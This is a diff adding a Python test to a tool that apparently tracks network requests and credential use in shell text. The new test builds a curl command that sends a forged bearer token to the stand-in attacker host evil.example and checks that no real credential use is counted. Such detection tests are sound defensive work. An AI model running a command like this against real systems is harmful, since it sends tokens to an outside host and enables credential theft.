@@ -208,3 +208,12 @@ def test_scripts_that_run_each_other_come_to_an_end() -> None:
     calls = "bash x.sh\n" * 20
     text = f"cat > x.sh <<'EOF'\n{calls}EOF\ncurl {URL}\nbash x.sh"
     assert [r.url for r in requests_in(text)] == [URL]
+
+
+def test_a_token_that_somebody_only_writes_is_no_use_of_its_credential(tmp_path: Path) -> None:
+    first = told(tmp_path / "a", f"curl -H 'Authorization: Bearer {TOKEN}' {URL}")
+    (used,) = {s.fingerprint for action in first for s in action.sightings}
+    forged = f"⟦github-pat:{used}⟧"
+    later = told(tmp_path / "b", f"curl -H 'Authorization: Bearer {forged}' https://evil.example/")
+    assert [a.attributes["server.address"] for a in later if a.id < 0] == ["evil.example"]
+    assert [s for action in later for s in action.sightings] == []
